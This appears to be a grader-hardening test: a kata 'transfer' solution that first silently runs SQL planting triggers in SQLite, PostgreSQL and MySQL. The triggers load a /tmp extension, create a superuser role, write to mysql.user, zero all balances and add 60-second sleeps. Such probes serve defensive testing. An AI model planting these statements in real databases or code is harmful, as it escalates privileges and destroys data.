# Tries: leaves triggers and defaults that run when the grader writes.
# On: transfer
# Says: statement ran longer|got \[|denied|permission
# Backends: each
# Slow: yes

from sqlalchemy import text

honest = transfer


def send(engine, *statements):
    """Send each by itself, whatever becomes of it."""
    for statement in statements:
        try:
            with engine.connect().execution_options(isolation_level="AUTOCOMMIT") as connection:
                connection.exec_driver_sql(statement)
        except Exception:
            pass


STATEMENTS = {
    'sqlite': [
        "CREATE TRIGGER trap BEFORE INSERT ON account BEGIN SELECT load_extension('/tmp/kata_loot'); END",
        'CREATE TRIGGER trap2 AFTER UPDATE ON account BEGIN UPDATE account SET balance = 0; END',
    ],
    'postgresql': [
        "CREATE FUNCTION trap() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RESET ROLE; EXECUTE 'CREATE ROLE kata_loot SUPERUSER'; RETURN NEW; END $$",
        'CREATE TRIGGER trap BEFORE INSERT ON account FOR EACH ROW EXECUTE FUNCTION trap()',
        'CREATE RULE trap AS ON UPDATE TO account DO ALSO SELECT pg_sleep(60)',
    ],
    'mysql': [
        "CREATE TRIGGER trap BEFORE INSERT ON account FOR EACH ROW INSERT INTO mysql.user (User) VALUES ('kata_loot')",
        'CREATE TRIGGER trap2 BEFORE UPDATE ON account FOR EACH ROW SET NEW.balance = sleep(60)',
    ],
}


def transfer(engine, source, target, amount):
    send(engine, *STATEMENTS[engine.dialect.name])
    honest(engine, source, target, amount)
